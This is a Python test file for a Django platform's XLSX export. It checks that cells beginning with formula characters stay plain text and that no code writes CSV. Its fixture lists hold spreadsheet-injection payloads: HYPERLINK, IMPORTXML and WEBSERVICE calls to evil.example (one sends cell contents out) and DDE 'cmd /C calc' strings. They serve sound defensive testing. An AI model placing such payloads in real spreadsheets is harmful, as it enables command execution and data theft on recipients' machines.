"""No cell of a sheet that leaves the house is ever a formula, and none loses a character on the way.

The platform writes tables as XLSX only: a CSV has no cell types, and a program that opens it decides for itself.
"""

import io
import re
import zipfile
from decimal import Decimal
from itertools import product
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from django.conf import settings

import world
from people import Cast
from reports.ledgers import Column
from reports.workbook import workbook

LEADS = ["=", "+", "-", "@", "\t", "\n", "＝", "＋", "－", "＠", " =", "  +", "'=", '"=', "\t=", "\n=", ";=", ",="]
TAILS = ["1+1", "SUM(A1:A9)", 'HYPERLINK("http://evil.example","点我")', "cmd|' /C calc'!A0", "1;=2+2,=3", "A1",
         'IMPORTXML("http://evil.example")', 'DDE("cmd";"/C calc";"x")', "𠮷䶮", '"',
         "WEBSERVICE(\"http://evil.example/\"&A1)", "_x0041_=1"]  # fmt: skip
CELLS = [lead + tail for lead, tail in product(LEADS, TAILS)]
NAME = Column("名称", lambda row: row)


def excel_reads(text: str) -> str:
    """ECMA-376 writes a character as _x0041_ and an underscore before that as _x005F_; openpyxl leaves it as it is."""
    return re.sub(r"_x([0-9A-F]{4})_", lambda found: chr(int(found[1], 16)), text)


def sheet_of(data: bytes) -> Any:
    return openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]


def test_none_of_more_than_two_hundred_hostile_cells_is_a_formula_or_loses_a_character():
    assert len(CELLS) >= 200
    data = workbook("台账", [NAME], CELLS, head=CELLS[:3])
    sheet = sheet_of(data)
    cells = [sheet.cell(line, 1) for line in range(6, 6 + len(CELLS))]
    assert [excel_reads(cell.value) for cell in cells] == CELLS
    assert {cell.data_type for row in sheet.iter_rows() for cell in row if cell.value is not None} == {"s"}
    bare = [cell.value for cell in cells if cell.value.lstrip(" '\"").startswith(tuple("=+-@\t\n＝＋－＠"))]
    assert [cell.value for cell in cells if cell.quotePrefix] == bare


def test_the_xml_of_the_sheet_holds_no_formula_and_excel_reads_every_escape_back():
    parts = zipfile.ZipFile(io.BytesIO(workbook("台账", [NAME], CELLS)))
    xml = "".join(parts.read(name).decode() for name in parts.namelist() if name.endswith(".xml"))
    assert not re.search(r"<f[ >]", xml)
    assert not re.search(r"(?<!_x005F)_x0041_", xml)


def test_numbers_stay_numbers_below_zero_too():
    columns = [Column("金额", lambda row: row, "wan"), Column("数量", lambda row: -3, "count")]
    sheet = sheet_of(workbook("台账", columns, [Decimal("-485000.00")]))
    assert [(cell.value, cell.data_type) for cell in sheet[3]] == [(-48.5, "n"), (-3, "n")]


@pytest.mark.django_db
def test_what_people_typed_leaves_by_the_real_export_as_text(client, cast: Cast):
    title = '=HYPERLINK("http://evil.example","高强度弹性体")'
    world.need(cast, status="submitted", title=title)
    client.force_login(cast.guan)
    answer = client.post("/office/ledgers/needs/?q=HYPERLINK")
    sheet = sheet_of(answer.content)
    told = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    assert title in [cell.value for cell in told]
    assert {cell.data_type for cell in told} == {"s"}


def test_no_table_leaves_the_house_as_csv():
    platform = Path(settings.ROOT) / "platform"
    writers = [str(path) for path in platform.rglob("*.py") if re.search(r"csv\.(w|DictW)riter", path.read_text())]
    assert writers == []
